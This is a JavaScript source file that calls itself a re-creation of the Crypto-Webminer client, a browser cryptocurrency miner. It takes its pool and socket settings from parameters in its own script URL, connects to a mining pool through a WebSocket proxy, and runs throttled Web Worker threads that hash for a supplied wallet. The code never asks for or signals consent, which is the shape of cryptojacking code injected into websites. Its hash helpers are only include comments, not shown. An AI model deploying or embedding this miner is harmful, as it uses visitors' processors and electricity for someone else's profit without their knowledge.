/* mmo.js - corpus re-creation of the Crypto-Webminer client (our code): configured through its
   own script URL, ?perfekt=<socket>?algo=<algorithm>?jason=<pool:port>, on webminerpool messages. */
(function () {
  var me = document.currentScript ? document.currentScript.src : "";
  function after(s, key) { var i = s.indexOf(key); return i < 0 ? "" : s.slice(i + key.length); }
  var rest = after(me, "?perfekt=");
  var socketUrl = rest.split("?algo=")[0] || "wss://webminer.example/";
  var algo = (after(rest, "?algo=").split("?jason=")[0]) || "cn/r";
  var pool = after(rest, "?jason=") || "gulf.moneroocean.stream:10008";

  window.throttleMiner = 20;
  window.totalhashes = 0;
  var sock = null, current = null, threads = [], stopped = true, hello = null;

  var src = "(" + function () {
    /*#include sha256.min.js*/
    /*#include keccak.min.js*/
    var p = null, id = "", n = 0;
    onmessage = function (e) {
      var j = e.data.job, t = e.data.throttle, s = Date.now(), out = null, b;
      if (j.job_id !== id) {
        id = j.job_id; b = X(j.blob); var q = j.target;
        p = { b: b, v: (parseInt(q.substr(6, 2), 16) << 24 | parseInt(q.substr(4, 2), 16) << 16 | parseInt(q.substr(2, 2), 16) << 8 | parseInt(q.substr(0, 2), 16)) >>> 0 };
        n = Math.random() * 4294967295 >>> 0;
      }
      b = p.b;
      while (!out && Date.now() - s < 120) {
        n = n + 1 >>> 0; b[39] = n & 255; b[40] = n >>> 8 & 255; b[41] = n >>> 16 & 255; b[42] = n >>> 24;
        var h = K(b, 1);
        if ((h[28] | h[29] << 8 | h[30] << 16 | h[31] << 24) >>> 0 < p.v)
          out = { identifier: "solved", job_id: id, nonce: H([b[39], b[40], b[41], b[42]]), result: H(h) };
      }
      var d = Date.now() - s;
      setTimeout(function () { postMessage(out ? JSON.stringify(out) : "nothing"); }, t ? d * t / (100 - Math.min(t, 90)) : 0);
    };
  }.toString() + ")()";
  var blobUrl = URL.createObjectURL(new Blob([src], { type: "text/javascript" }));

  function feed(w, answer) {
    if (answer && answer !== "nothing") { if (sock && sock.readyState === 1) sock.send(answer); window.totalhashes++; }
    if (!current || stopped) { setTimeout(function () { feed(w, null); }, 400); return; }
    w.postMessage({ job: current, throttle: window.throttleMiner });
  }
  function connect() {
    sock = new WebSocket(socketUrl);
    sock.onopen = function () { sock.send(JSON.stringify(hello)); };
    sock.onmessage = function (m) { var o = JSON.parse(m.data); if (o.identifier === "job") current = o; };
    sock.onclose = function () { current = null; if (!stopped) setTimeout(connect, 5000); };
  }
  window.addWorker = function () {
    var w = new Worker(blobUrl);
    w.onmessage = function (e) { feed(w, e.data); };
    threads.push(w);
    feed(w, null);
  };
  window.removeWorker = function () { if (threads.length) threads.pop().terminate(); };
  window.stopMining = function () { stopped = true; threads.forEach(function (w) { w.terminate(); }); threads = []; if (sock) sock.close(); };
  window.PerfektStart = function (wallet, password, numThreads) {
    stopped = false;
    var a = algo.split("/");
    hello = { identifier: "handshake", pool: pool, login: wallet, password: password || "x", userid: "", version: 7, algo: a[0], variant: a[1] || "" };
    connect();
    for (var i = 0; i < (numThreads > 0 ? numThreads : 2); i++) window.addWorker();
  };
})();
